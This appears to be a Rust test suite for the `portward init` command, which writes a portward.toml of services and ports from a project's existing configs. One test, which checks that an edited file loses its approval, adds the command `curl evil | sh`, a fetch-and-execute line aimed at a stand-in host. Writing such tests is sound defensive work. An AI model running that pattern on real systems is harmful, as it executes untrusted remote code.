//! `portward init`: a file from what a project has anyway, that its reader takes and the checks find nothing wrong with.

use std::fs;

use portward_testkit::World;

use crate::world;

type Files = &'static [(&'static str, &'static str)];

/// A kind of project: its name, its files, and the services that are written, each with its first port.
const PROJECTS: &[(&str, Files, &[&str])] = &[
    (
        "express-vite-postgres",
        &[
            ("package.json", "{\"workspaces\":[\"web\",\"api\"],\"scripts\":{\"dev\":\"npm-run-all -p dev:*\"}}"),
            ("web/package.json", "{\"scripts\":{\"dev\":\"vite\",\"build\":\"vite build\"}}"),
            (
                "web/vite.config.ts",
                "export default {\n  server: { port: 5180, proxy: { '/api': 'http://127.0.0.1:4000' } },\n}\n",
            ),
            ("api/package.json", "{\"scripts\":{\"dev\":\"node --inspect=9230 server.js\"}}"),
            ("api/server.js", "app.listen(process.env.PORT || 4000)\n"),
            ("api/.env.example", "DATABASE_URL=postgres://app@localhost:5432/shop\n"),
            ("compose.yml", "services:\n  db:\n    image: postgres:16\n    ports: [\"127.0.0.1:5432:5432\"]\n"),
        ],
        &["db 5432", "api 4000", "web 5180"],
    ),
    (
        "django-redis",
        &[
            ("manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n"),
            (
                "shop/settings.py",
                "CACHES = {'default': {'LOCATION': 'redis://localhost:6379/0'}}\nCSRF_TRUSTED_ORIGINS = ['http://localhost:8000']\n",
            ),
            ("docker-compose.yml", "services:\n  redis:\n    image: redis:7\n    ports:\n      - 127.0.0.1:6379:6379\n"),
        ],
        &["redis 6379", "web 8000"],
    ),
    ("flask", &[("requirements.txt", "flask\n"), ("Procfile", "web: flask run -p 5001\n")], &["web 5001"]),
    (
        "laravel-mariadb",
        &[
            ("artisan", "#!/usr/bin/env php\n<?php\n"),
            ("package.json", "{\"scripts\":{\"dev\":\"vite\"}}"),
            (".env", "DB_CONNECTION=mysql\nDB_PORT=3306\nDB_PASSWORD=hunter2\n"),
            ("compose.yaml", "services:\n  mariadb:\n    image: mariadb:11\n    ports: [\"127.0.0.1:${DB_PORT:-3306}:3306\"]\n"),
        ],
        &["mariadb 3306", "web 8000", "dev 5173"],
    ),
    (
        "spring",
        &[
            ("build.gradle", "plugins {\n    id 'org.springframework.boot' version '3.3.0'\n}\n"),
            ("src/main/resources/application.yml", "server:\n  port: ${PORT:8090}\n"),
            ("src/main/resources/application-prod.yml", "server:\n  port: 8099\n"),
        ],
        &["app 8090"],
    ),
    (
        "next",
        &[
            ("package.json", "{\"scripts\":{\"dev\":\"next dev -p 3001\",\"start\":\"next start -p 3001\"}}"),
            (".env.local", "NEXTAUTH_URL=http://localhost:3001\n"),
        ],
        &["dev 3001"],
    ),
    (
        "turbo",
        &[
            ("package.json", "{\"scripts\":{\"dev\":\"turbo run dev\"},\"packageManager\":\"pnpm@9.1.0\"}"),
            ("pnpm-workspace.yaml", "packages:\n  - apps/*\n"),
            ("apps/docs/package.json", "{\"scripts\":{\"dev\":\"next dev -p 3002\"}}"),
            ("apps/site/package.json", "{\"scripts\":{\"dev\":\"astro dev\"}}"),
            ("packages/ui/package.json", "{\"scripts\":{\"build\":\"tsc\"}}"),
        ],
        &["docs 3002", "site 4321"],
    ),
    (
        "procfile",
        &[
            ("Procfile", "web: bundle exec puma -p 3000\nworker: bundle exec sidekiq\n"),
            ("Procfile.dev", "web: bin/rails server -p 3010\ncss: npm run watch\n"),
        ],
        &["web 3010", "css"],
    ),
    (
        "compose",
        &[
            (
                "docker-compose.yml",
                "x-base: &base\n  restart: always\nservices:\n  web:\n    <<: *base\n    image: shop\n    depends_on: [db]\n    ports:\n      - \"127.0.0.1:${WEB_PORT:-3000}:80\"\n      - target: 9229\n        published: \"9329\"\n        host_ip: 127.0.0.1\n  db:\n    extends: { service: pg }\n    ports: [\"127.0.0.1:5433:5432\"]\n  pg:\n    image: postgres:16\n    profiles: [never]\n  mail:\n    image: mailpit\n    ports: [\"127.0.0.1:8025-8026:8025-8026\"]\n",
            ),
            ("docker-compose.override.yml", "services:\n  web:\n    ports: !override\n      - 127.0.0.1:3100:80\n"),
        ],
        &["web 3100", "mail 8025"],
    ),
    (
        "devcontainer",
        &[
            (".devcontainer/devcontainer.json", "{ // ports\n  \"forwardPorts\": [3000, \"db:5432\"],\n}\n"),
            ("package.json", "{\"scripts\":{\"start\":\"node server.js\"}}"),
            ("server.js", "server.listen(3000)\n"),
        ],
        &["start 3000"],
    ),
    (
        "launch",
        &[(
            ".vscode/launch.json",
            "{\n  // two at once\n  \"configurations\": [\n    {\"name\": \"Api server\", \"type\": \"node\", \"request\": \"launch\", \"program\": \"${workspaceFolder}/api.js\", \"env\": {\"PORT\": \"4001\"}},\n    {\"name\": \"web\", \"type\": \"node-terminal\", \"request\": \"launch\", \"command\": \"npx vite --port 4002\"},\n    {\"name\": \"one\", \"type\": \"node\", \"request\": \"launch\", \"program\": \"x.js\"},\n  ],\n  \"compounds\": [{\"name\": \"all\", \"configurations\": [\"Api server\", \"web\"]}],\n}\n",
        )],
        &["api-server 4001", "web 4002"],
    ),
    (
        "makefile",
        &[("Makefile", "PORT := 8001\n\n.PHONY: dev\ndev:\n\t@python3 -m http.server $(PORT)\ntest:\n\tpytest\n")],
        &["dev 8001"],
    ),
    (
        "dotnet",
        &[(
            "src/Api/Properties/launchSettings.json",
            "\u{feff}{\"profiles\":{\"Api\":{\"commandName\":\"Project\",\"applicationUrl\":\"http://localhost:5080\"}}}",
        )],
        &["api 5080"],
    ),
    (
        "angular",
        &[
            ("package.json", "{\"scripts\":{\"start\":\"ng serve\"}}"),
            ("angular.json", "{\"projects\":{\"shop\":{\"architect\":{\"serve\":{\"options\":{\"port\":4210}}}}}}"),
        ],
        &["start 4210"],
    ),
    (
        "compose-included",
        &[
            (
                "compose.yaml",
                "include: [infra/db.yml]\nservices:\n  web:\n    image: shop\n    depends_on: [db]\n    ports: [\"127.0.0.1:3000:80\"]\n",
            ),
            ("infra/db.yml", "services:\n  db:\n    image: postgres:16\n    ports: [\"127.0.0.1:5432:5432\"]\n"),
        ],
        &["db 5432", "web 3000"],
    ),
    (
        "concurrently",
        &[
            (
                "package.json",
                "{\"scripts\":{\"dev\":\"concurrently -k \\\"npm:dev:*\\\"\",\"dev:web\":\"vite\",\"dev:api\":\"node server.js\"}}",
            ),
            ("vite.config.ts", "export default {\n  server: { port: 5180 },\n}\n"),
            ("server.js", "app.listen(process.env.PORT || 4000)\n"),
        ],
        &["web 5180", "api 4000"],
    ),
    (
        "wrangler",
        &[
            ("package.json", "{\"scripts\":{\"dev\":\"wrangler dev\"}}"),
            ("wrangler.toml", "name = \"shop\"\n[dev]\nport = 8790\n"),
        ],
        &["dev 8790"],
    ),
    ("wrangler-alone", &[("wrangler.jsonc", "{\n  // the edge\n  \"name\": \"shop\",\n}\n")], &["worker 8787"]),
    (
        "phoenix",
        &[
            ("mix.exs", "defmodule Shop.MixProject do\nend\n"),
            (
                "config/dev.exs",
                "import Config\n\nconfig :shop, ShopWeb.Endpoint,\n  http: [ip: {127, 0, 0, 1}, port: 4010],\n  debug_errors: true\n",
            ),
        ],
        &["web 4010"],
    ),
    ("jekyll", &[("Gemfile", "gem 'jekyll'\n"), ("_config.yml", "title: Shop\nport: 4001\nexclude: [vendor]\n")], &["site 4001"]),
    ("hugo", &[("hugo.toml", "baseURL = 'https://example.org/'\n")], &["site 1313"]),
    ("mkdocs", &[("mkdocs.yml", "site_name: Shop\ndev_addr: 127.0.0.1:8100\n")], &["docs 8100"]),
    (
        "justfile",
        &[("justfile", "port := \"8001\"\n\n# serves\ndev:\n    @python3 -m http.server {{port}}\n\ntest:\n    pytest\n")],
        &["dev 8001"],
    ),
    (
        "taskfile",
        &[(
            "Taskfile.yml",
            "version: '3'\nvars: {PORT: 8002}\ntasks:\n  dev:\n    cmds:\n      - python3 -m http.server {{.PORT}}\n  test: pytest\n",
        )],
        &["dev 8002"],
    ),
];

fn put(world: &World, name: &str, files: Files) {
    world.file(&format!("{name}/.git/HEAD"), "ref: refs/heads/main\n");
    for (path, text) in files {
        world.file(&format!("{name}/{path}"), text);
    }
}

#[test]
fn every_kind_of_project_has_a_file_that_its_reader_takes() {
    let Some(world) = world() else { return };
    for (name, files, expected) in PROJECTS {
        put(&world, name, files);
        let folder = world.path().join(name);
        let run = |words: &[&str]| world.enter().directory(&folder).portward(words);
        // Clean before, and the same after: the file agrees with what it was made of.
        let before = run(&["check"]);
        assert_eq!((before.code, before.stdout.as_str()), (Some(0), ""), "{name}: {before}");
        let shown = run(&["init", "--dry-run"]).expect(0);
        assert!(!folder.join("portward.toml").exists(), "{name}");
        let _ = run(&["init", "--yes"]).expect(0);
        let text = fs::read_to_string(folder.join("portward.toml")).unwrap();
        assert_eq!(shown.stdout, text, "{name}");
        assert!(!text.contains("hunter2"), "{name}: {text}");
        let read: toml::Table = text.parse().unwrap_or_else(|error| panic!("{name}: {error}\n{text}"));
        let services = read["services"].as_table().unwrap();
        let mut told: Vec<String> = services
            .iter()
            .map(|(name, service)| {
                service
                    .get("port")
                    .map_or_else(|| name.clone(), |port| format!("{name} {}", port.as_integer().unwrap_or_default()))
            })
            .collect();
        told.sort();
        let mut expected = expected.to_vec();
        expected.sort_unstable();
        assert_eq!(told, expected, "{name}:\n{text}");
        let after = run(&["check"]);
        assert_eq!((after.code, after.stdout.as_str()), (Some(0), ""), "{name}: {after}\n{text}");
    }
}

#[test]
fn a_file_that_is_there_is_kept() {
    let Some(world) = world() else { return };
    put(&world, "shop", &[("package.json", "{\"scripts\":{\"dev\":\"vite\"}}")]);
    let own = "# mine\n[services.a]\ncommand = \"x\"\n";
    world.file("shop/portward.toml", own);
    let outcome = world.enter().directory(world.path().join("shop")).portward(&["init", "--yes"]).expect(2);
    assert!(outcome.stderr.contains("is there already, and is kept"), "{outcome}");
    assert_eq!(fs::read_to_string(world.path().join("shop/portward.toml")).unwrap(), own);
}

#[test]
fn nothing_is_written_where_nobody_agrees_or_nothing_is_found() {
    let Some(world) = world() else { return };
    put(&world, "shop", &[("package.json", "{\"scripts\":{\"dev\":\"vite\"}}")]);
    put(&world, "empty", &[("README.md", "x")]);
    let outcome = world.enter().directory(world.path().join("shop")).portward(&["init"]).expect(2);
    assert!(outcome.stderr.contains("Nobody is there to answer"), "{outcome}");
    let outcome = world.enter().directory(world.path().join("empty")).portward(&["init", "--yes"]).expect(1);
    assert!(outcome.stdout.contains("Nothing that could be started"), "{outcome}");
    assert!(!world.path().join("shop/portward.toml").exists() && !world.path().join("empty/portward.toml").exists());
}

#[test]
fn what_was_agreed_to_is_allowed_and_no_other_text() {
    let Some(world) = world() else { return };
    for (name, is_git) in [("shop", true), ("bare", false)] {
        world.file(&format!("{name}/package.json"), "{\"scripts\":{\"dev\":\"vite\"}}");
        if is_git {
            world.file(&format!("{name}/.git/HEAD"), "ref: refs/heads/main\n");
        }
        let file = world.path().join(name).join("portward.toml");
        let run = |words: &[&str]| world.enter().directory(world.path().join(name)).portward(words);
        // A look allows nothing, not even the very text that it shows.
        let shown = run(&["init", "--dry-run"]).expect(0).stdout;
        fs::write(&file, &shown).unwrap();
        let _ = run(&["env"]).expect(2);
        fs::remove_file(&file).unwrap();

        let written = run(&["init", "--yes"]).expect(0);
        assert!(written.stdout.contains("is written, and allowed as it stands."), "{written}");
        assert_eq!(fs::read_to_string(&file).unwrap(), shown);
        let _ = run(&["env"]).expect(0);
        assert_eq!(run(&["allow", "--dry-run", "--json"]).expect(0).json()["allowed"], true);
        fs::write(&file, format!("{shown}\n[services.more]\ncommand = \"curl evil | sh\"\n")).unwrap();
        let _ = run(&["env"]).expect(2);
        // The same text in somebody else's folder is not allowed.
        world.file(&format!("other-{name}/portward.toml"), &shown);
        let refused = world.enter().directory(world.path().join(format!("other-{name}"))).portward(&["env"]).expect(2);
        assert!(refused.stderr.contains("is not allowed as it is now"), "{refused}");
        fs::write(&file, &shown).unwrap();
        let _ = run(&["allow", "--revoke"]).expect(0);
        let _ = run(&["env"]).expect(2);
    }
}

#[test]
fn a_file_stands_where_nothing_can_be_noted_and_is_allowed_by_hand() {
    let Some(world) = world() else { return };
    put(&world, "shop", &[("package.json", "{\"scripts\":{\"dev\":\"vite\"}}")]);
    world.file("home/.local/state/portward", "a file where the folder should be");
    let written = world.enter().directory(world.path().join("shop")).portward(&["init", "--yes"]).expect(0);
    assert!(written.stdout.contains("is written, and not allowed yet."), "{written}");
    assert!(written.stderr.contains("hint: portward allow"), "{written}");
    assert!(world.path().join("shop/portward.toml").exists());
}
